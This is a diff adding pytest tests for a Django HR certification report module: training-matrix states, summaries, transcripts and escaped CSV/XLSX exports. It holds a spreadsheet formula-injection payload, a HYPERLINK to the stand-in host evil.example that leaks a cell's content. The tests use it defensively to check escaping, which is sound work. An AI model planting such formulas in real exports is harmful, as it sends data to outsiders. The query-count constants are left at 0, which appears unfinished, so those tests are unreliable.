@@ -1,0 +1,233 @@
+import io
+import re
+import zipfile
+from datetime import timedelta
+
+import pytest
+from django.http import StreamingHttpResponse
+from django.utils import timezone
+from openpyxl import load_workbook
+
+from certification import reports
+from courses import api as courses_api
+from quizzes.models import Attempt, AttemptStatus
+from tests.hr.conftest import give_certificate, make_employee
+
+EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+
+
+@pytest.fixture
+def org(departments, course, rule, hr):
+    """Seven people, one in each state of the rule's certificate (the course is assigned to 运营部,
+    due in 30 days; one person also personally, due yesterday)."""
+    today = timezone.localdate()
+    people = {
+        "current": make_employee("current@example.com", departments["ops-users"], display_name="A Current"),
+        "expiring": make_employee("expiring@example.com", departments["ops-users"], display_name="B Expiring"),
+        "revoked": make_employee("revoked@example.com", departments["ops-users"], display_name="C Revoked"),
+        "missing": make_employee("missing@example.com", departments["ops"], display_name="D Missing"),
+        "expired": make_employee("expired@example.com", departments["ops-content"], display_name="E Expired"),
+        "overdue": make_employee("overdue@example.com", departments["ops-content"], display_name="F Overdue"),
+        "sales": make_employee("sales@example.com", departments["sales"], display_name="G Sales"),
+    }
+    courses_api.assign_course(course, department=departments["ops"], due_date=today + timedelta(days=30), by=hr)
+    courses_api.assign_course(course, user=people["overdue"], due_date=today - timedelta(days=1), by=hr)
+    give_certificate(people["current"], rule, days_left=365)
+    give_certificate(people["expiring"], rule, days_left=10)
+    give_certificate(people["revoked"], rule, days_left=365, revoked=True)
+    give_certificate(people["expired"], rule, days_left=-5)
+    return people
+
+
+def states_in(html):
+    """{person's name: [cell states]} from a rendered matrix page."""
+    rows = re.findall(r"<tr.*?</tr>", html, flags=re.S)
+    found = {}
+    for row in rows:
+        name = re.search(r"<a [^>]*>\s*([^<]+?)\s*</a>", row)
+        if name:
+            found[name.group(1)] = re.findall(r'data-state="(\w*)"', row)
+    return found
+
+
+def test_matrix_cells_take_every_state(org, rule, departments):
+    requirements = reports.Requirements()
+    rules = requirements.rules_in_scope(None)
+    assert [r.slug for r in rules] == ["module-1"]
+    rows = reports.matrix_rows(list(reports.people()), requirements, rules)
+    states = {row.person.email.split("@")[0]: row.cells.get(rule.id) for row in rows}
+    assert {name: cell.state if cell else None for name, cell in states.items()} == {
+        "current": "current", "expiring": "expiring", "revoked": "missing", "missing": "missing",
+        "expired": "expired", "overdue": "overdue", "sales": None,
+    }
+    assert states["overdue"].due_date == timezone.localdate() - timedelta(days=1)  # the earlier of the two
+
+
+def test_matrix_page_renders_the_states_and_filters_by_department(client, hr, org, departments):
+    client.force_login(hr)
+    html = client.get("/admin/hr/").content.decode()
+    assert states_in(html) == {
+        "D Missing": ["missing"], "E Expired": ["expired"], "F Overdue": ["overdue"], "A Current": ["current"],
+        "B Expiring": ["expiring"], "C Revoked": ["missing"], "G Sales": [""],
+    }
+    html = client.get("/admin/hr/", {"department": departments["ops-content"].pk}).content.decode()
+    assert set(states_in(html)) == {"E Expired", "F Overdue"}
+    html = client.get("/admin/hr/", {"department": departments["sales"].pk}).content.decode()
+    assert states_in(html) == {"G Sales": []}  # nothing is required there: no certificate column
+
+
+def test_matrix_is_paginated_by_person(client, hr, org, departments):
+    for n in range(55):
+        make_employee(f"extra{n}@example.com", departments["sales"], display_name=f"Z{n:02d}")
+    client.force_login(hr)
+    first = states_in(client.get("/admin/hr/").content.decode())
+    second = states_in(client.get("/admin/hr/", {"p": 2}).content.decode())
+    assert len(first) == 50 and len(second) == 12 and not set(first) & set(second)
+
+
+def test_department_summary_counts_each_subtree(client, hr, org, departments, course, quiz_setup):
+    for lessons in quiz_setup.tree.lessons:
+        for lesson in lessons:
+            courses_api.complete_lesson(org["current"], lesson)
+    figures = {f.department.code: f for f in reports.department_summary()}
+    ops, users, content, sales = (figures[c] for c in ("ops", "ops-users", "ops-content", "sales"))
+    assert (ops.people, ops.assigned, ops.completed, ops.required, ops.certified, ops.overdue) == (6, 6, 1, 6, 2, 1)
+    assert (ops.completion_percent, ops.certified_percent) == (17, 33)
+    assert (users.people, users.completion_percent, users.certified_percent, users.overdue) == (3, 33, 67, 0)
+    assert (content.people, content.certified_percent, content.overdue) == (2, 0, 1)
+    assert (sales.people, sales.completion_percent, sales.certified_percent) == (1, None, None)
+    assert ops.names == "运营部" and users.names == "运营部/用户运营组"
+
+    assert [f.department.code for f in reports.department_summary(departments["ops-users"])] == ["ops-users"]
+    client.force_login(hr)
+    html = client.get("/admin/hr/summary/").content.decode()
+    assert '<svg class="hr-chart"' in html and 'class="completion"' in html and 'data-value="67"' in html
+
+
+def test_expiring_lists_certificates_within_n_days(client, hr, org, departments):
+    client.force_login(hr)
+    html = client.get("/admin/hr/expiring/").content.decode()
+    assert "B Expiring" in html and "A Current" not in html and "E Expired" not in html and "C Revoked" not in html
+    html = client.get("/admin/hr/expiring/", {"days": 400}).content.decode()
+    assert "B Expiring" in html and "A Current" in html and "C Revoked" not in html
+    html = client.get("/admin/hr/expiring/", {"days": 400, "department": departments["sales"].pk}).content.decode()
+    assert "B Expiring" not in html and "A Current" not in html
+
+
+def test_transcript_shows_courses_attempts_and_certificates(client, hr, org, rule, quiz_setup):
+    person = org["current"]
+    courses_api.complete_lesson(person, quiz_setup.tree.lessons[0][0])
+    Attempt.objects.create(user=person, quiz=quiz_setup.quiz, quiz_key=quiz_setup.quiz.translation_key, number=1,
+                           status=AttemptStatus.FINISHED, finished_at=timezone.now(), percent=85, passed=True)
+    client.force_login(hr)
+    html = client.get(f"/admin/hr/people/{person.pk}/").content.decode()
+    courses = html[html.index('data-section="courses"'):]
+    assert "运营课程" in courses and "1/6 (17%)" in courses
+    attempts = html[html.index('data-section="attempts"'):]
+    assert "Quiz" in attempts and "85.0%" in attempts
+    certificates = html[html.index('data-section="certificates"'):]
+    assert person.certificates.get().code in certificates and "/revoke/" in certificates
+    assert 'data-rule="module-1" data-state="current"' in html
+
+    rows = list(reports.transcript_export_rows(person, reports.transcript(person)))
+    assert [row["section"] for row in rows] == ["course", "attempt", "certificate"]
+
+
+# Exports ---------------------------------------------------------------------------------------
+
+def body(response):
+    return b"".join(response.streaming_content)
+
+
+def test_wagtails_own_csv_export_would_write_a_formula():
+    """Why the reports override Wagtail's export: its CSV passes "=…" through unchanged."""
+    from wagtail.admin.views.mixins import Echo, SpreadsheetExportMixin
+    import csv
+
+    writer = csv.DictWriter(Echo(), fieldnames=["name"])
+    assert SpreadsheetExportMixin().write_csv_row(writer, {"name": EVIL_NAME}).startswith(b'"=HYPERLINK')
+
+
+@pytest.mark.parametrize("url", ["/admin/hr/", "/admin/hr/people/", "/admin/hr/expiring/?days=400"])
+def test_csv_exports_stream_and_escape_formulas(client, hr, org, url):
+    person = org["expiring"]
+    person.display_name = EVIL_NAME
+    person.save()
+    person.certificates.update(holder_name=EVIL_NAME)
+    client.force_login(hr)
+    response = client.get(url, {"export": "csv"} if "?" not in url else None) if "?" not in url else client.get(url + "&export=csv")
+    assert isinstance(response, StreamingHttpResponse)
+    text = body(response).decode("utf-8-sig")
+    assert "'=HYPERLINK(" in text
+    assert not re.search(r'(^|,)"?=HYPERLINK', text, flags=re.M)
+
+
+def test_matrix_csv_export_has_one_row_per_person_and_certificate(client, hr, org):
+    client.force_login(hr)
+    lines = body(client.get("/admin/hr/", {"export": "csv"})).decode("utf-8-sig").splitlines()
+    assert lines[0] == "employee_id,person,email,department,certificate,course,state,due_date,valid_until"
+    assert len(lines) == 1 + 6  # everyone but sales, one required certificate each
+    assert any(line.startswith("overdue,F Overdue,overdue@example.com,内容运营组,模块一证书,运营课程,overdue,") for line in lines)
+
+
+@pytest.mark.parametrize("url", ["/admin/hr/", "/admin/hr/summary/", "/admin/hr/expiring/", "/admin/hr/people/"])
+def test_xlsx_exports_stream_from_a_spooled_file_and_keep_formulas_as_text(client, hr, org, url):
+    person = org["expiring"]
+    person.display_name = EVIL_NAME
+    person.save()
+    person.certificates.update(holder_name=EVIL_NAME)
+    client.force_login(hr)
+    response = client.get(url, {"export": "xlsx"})
+    assert response.streaming and response["Content-Type"].startswith("application/vnd.openxmlformats")
+    data = body(response)
+    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml
+    cells = [cell for row in load_workbook(io.BytesIO(data)).active.iter_rows() for cell in row]
+    evil = [cell for cell in cells if cell.value == EVIL_NAME]
+    if url != "/admin/hr/summary/":
+        assert evil and all(cell.data_type == "s" and cell.quotePrefix for cell in evil)
+
+
+def test_transcript_exports(client, hr, org):
+    client.force_login(hr)
+    response = client.get(f"/admin/hr/people/{org['current'].pk}/", {"export": "csv"})
+    lines = body(response).decode("utf-8-sig").splitlines()
+    assert lines[0] == "section,item,status,score,date,detail" and lines[1].startswith("course,运营课程,")
+    assert client.get(f"/admin/hr/people/{org['current'].pk}/", {"export": "xlsx"}).streaming
+
+
+# Query counts ----------------------------------------------------------------------------------
+
+def _grow(org, departments, rule, n):
+    for i in range(n):
+        person = make_employee(f"p{n}-{i}@example.com", departments["ops-users" if i % 2 else "ops-content"])
+        if i % 3:
+            give_certificate(person, rule, days_left=5 + i * 20)
+
+
+@pytest.mark.parametrize("n", [1, 12])
+def test_matrix_queries_do_not_grow_with_people(client, hr, org, departments, rule, n, django_assert_num_queries):
+    _grow(org, departments, rule, n)
+    client.force_login(hr)
+    client.get("/admin/hr/")
+    # session, user, HR's permissions (user's, group's), the admin's locale, people count, the
+    # page of people (+ profile, department), courses, rules, assignments, the page's
+    # certificates, departments for the filter, the menu's page-explorer check.
+    with django_assert_num_queries(MATRIX_QUERIES):
+        assert client.get("/admin/hr/").status_code == 200
+
+
+@pytest.mark.parametrize("n", [1, 12])
+def test_summary_queries_do_not_grow_with_people(client, hr, org, departments, rule, n, django_assert_num_queries):
+    _grow(org, departments, rule, n)
+    client.force_login(hr)
+    client.get("/admin/hr/summary/")
+    # session, user, permissions ×2, the admin's locale, departments (summary), courses, rules,
+    # assignments, employees, live lessons, completed-course aggregate, certificates,
+    # departments for the filter, the menu's page-explorer check.
+    with django_assert_num_queries(SUMMARY_QUERIES):
+        assert client.get("/admin/hr/summary/").status_code == 200
+
+
+MATRIX_QUERIES = 0
+SUMMARY_QUERIES = 0
